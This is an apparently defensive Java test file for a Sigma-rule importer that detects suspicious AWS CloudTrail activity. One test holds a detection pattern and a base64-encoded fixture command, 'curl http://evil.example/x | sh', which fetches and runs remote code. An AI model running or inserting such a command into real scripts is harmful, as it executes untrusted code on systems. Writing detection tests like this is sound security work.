package io.cloudir.rules.sigma;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.cloudir.model.cloudtrail.CloudTrailEvent;
import io.cloudir.rules.Engine;
import io.cloudir.rules.Finding;
import io.cloudir.rules.Rule;
import io.cloudir.rules.RuleException;
import io.cloudir.rules.Session;
import io.cloudir.rules.Severity;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class SigmaImporterTest {
  private static final String HEAD = """
      title: Test {rule}
      id: 0f1e2d3c-aaaa-bbbb-cccc-000000000001
      status: test
      description: A test rule.
      references:
          - https://example.org/doc
      author: Jane Doe
      date: 2026-01-01
      tags:
          - attack.defense-evasion
          - attack.t1562.008
      logsource:
          product: aws
          service: cloudtrail
      falsepositives:
          - none
      level: informational
      """;

  static List<Finding> run(List<Rule> rules, String json) {
    List<Finding> out = new ArrayList<>();
    Session s = Engine.compile(rules).newSession(out::add);
    s.accept(CloudTrailEvent.parse(json));
    s.flush();
    return out;
  }

  static String event(String members) {
    Map<String, Object> ev = SigmaEvents.base();
    String base = SigmaEvents.json(ev);
    return base.substring(0, base.length() - 1) + "," + members + "}";
  }

  private static List<Rule> rules(String detection) {
    return SigmaImporter.builder().linkBase("https://rules.example/sigma/").build()
        .parse("cloud/x.yml", HEAD + detection);
  }

  @Test
  void metadataAndAuthorReachTheFinding() {
    List<Rule> r = rules("""
        detection:
            selection:
                eventSource: cloudtrail.amazonaws.com
                eventName: [StopLogging, DeleteTrail]
            condition: selection
        """);
    Rule rule = r.get(0);
    assertEquals("0f1e2d3c-aaaa-bbbb-cccc-000000000001", rule.id());
    assertEquals(Severity.INFO, rule.severity());
    assertEquals(List.of("T1562.008"), rule.mitre());
    List<Finding> f = run(r, event("\"eventSource\":\"cloudtrail.amazonaws.com\","
        + "\"eventName\":\"StopLogging\"").replace("\"eventSource\":\"example.amazonaws.com\","
        + "\"eventName\":\"ExampleCall\",", ""));
    assertEquals(1, f.size());
    assertEquals("Jane Doe", f.get(0).author());
    assertEquals("https://rules.example/sigma/cloud/x.yml", f.get(0).link());
    assertEquals("Test {rule}", f.get(0).title());
    assertTrue(run(r, event("\"errorCode\":\"x\"")).isEmpty());
  }

  @Test
  void defaultLinkSearchesTheRuleId() {
    Rule r = SigmaImporter.create().parse("x.yml", HEAD + """
        detection:
            sel: {eventName: StopLogging}
            condition: sel
        """).get(0);
    assertTrue(r.references().get(0).contains("0f1e2d3c-aaaa-bbbb-cccc-000000000001"),
        r.references().toString());
    assertEquals("https://example.org/doc", r.references().get(1));
  }

  @Test
  void containsOnAnObjectMatchesQuotedTextInsideAPolicyString() {
    List<Rule> r = rules("""
        detection:
            selection:
                eventName: PutUserPolicy
                requestParameters|contains|all:
                    - '"s3:GetObject"'
                    - '"Allow"'
            condition: selection
        """);
    String policy = "{\\\"Statement\\\":[{\\\"Effect\\\":\\\"Allow\\\","
        + "\\\"Action\\\":\\\"s3:GetObject\\\"}]}";
    String yes = event("\"requestParameters\":{\"policyDocument\":\"" + policy + "\"}")
        .replace("ExampleCall", "PutUserPolicy");
    assertEquals(1, run(r, yes).size());
    String no = yes.replace("Allow", "Deny");
    assertEquals(0, run(r, no).size());
  }

  @Test
  void base64offsetFindsTheTextAtEveryOffset() {
    List<Rule> r = rules("""
        detection:
            selection:
                requestParameters.userData|base64offset|contains: 'curl http://evil'
            condition: selection
        """);
    for (String prefix : List.of("#!/bin/sh\n", "#!/bin/sh\n\n", "#!/bin/bash\n")) {
      String data = Base64.getEncoder().encodeToString((prefix + "curl http://evil.example/x | sh")
          .getBytes(StandardCharsets.UTF_8));
      assertEquals(1, run(r, event("\"requestParameters\":{\"userData\":\"" + data + "\"}"))
          .size(), prefix);
    }
    String other = Base64.getEncoder().encodeToString("#!/bin/sh\necho hello"
        .getBytes(StandardCharsets.UTF_8));
    assertEquals(0, run(r, event("\"requestParameters\":{\"userData\":\"" + other + "\"}"))
        .size());
  }

  @Test
  void expandUsesPlaceholdersAndReportsMissingOnes() {
    String det = """
        detection:
            selection:
                sourceIPAddress|expand: '%admin_ips%'
            condition: selection
        """;
    List<Rule> r = SigmaImporter.builder().placeholder("admin_ips",
        List.of("203.0.113.9", "198.51.100.7")).build().parse("p.yml", HEAD + det);
    assertEquals(1, run(r, event("\"x-none\":1")).size());
    RuleException e = assertThrows(RuleException.class,
        () -> SigmaImporter.create().parse("p.yml", HEAD + det));
    assertTrue(e.getMessage().contains("%admin_ips%"), e.getMessage());
    assertEquals(20, e.location().line());
  }

  @Test
  void unsupportedFeaturesAreErrorsWithFileAndLine() {
    Map<String, String> cases = Map.of(
        "keyword", "detection:\n    keywords:\n        - evil\n    condition: keywords\n",
        "aggregations", "detection:\n    sel: {eventName: X}\n    condition: sel | count() > 5\n",
        "'minute' is not supported",
            "detection:\n    sel: {eventTime|minute: 5}\n    condition: sel\n",
        "timeframe", "detection:\n    sel: {eventName: X}\n    timeframe: 5m\n    condition: sel\n");
    for (Map.Entry<String, String> c : cases.entrySet()) {
      RuleException e = assertThrows(RuleException.class, () -> SigmaImporter.create()
          .parse("bad.yml", HEAD + c.getValue()), c.getKey());
      assertTrue(e.getMessage().contains(c.getKey()), e.getMessage());
      assertEquals("bad.yml", e.location().source());
      assertTrue(e.location().line() > 18, e.getMessage());
    }
    RuleException p = assertThrows(RuleException.class, () -> SigmaImporter.create().parse(
        "w.yml", HEAD.replace("product: aws", "product: windows")
            + "detection:\n    sel: {EventID: 1}\n    condition: sel\n"));
    assertTrue(p.getMessage().contains("windows"), p.getMessage());
  }

  @Test
  void tellsSigmaFromTheCloudirFormat() {
    assertTrue(SigmaImporter.isSigma(HEAD + "detection:\n    s: {a: b}\n    condition: s\n"));
    assertFalse(SigmaImporter.isSigma("""
        schemaVersion: 1
        id: x
        logsource: {type: cloudtrail}
        detection: {s: {eventName: X}}
        """));
    assertFalse(SigmaImporter.isSigma("{ not yaml: ["));
  }
}
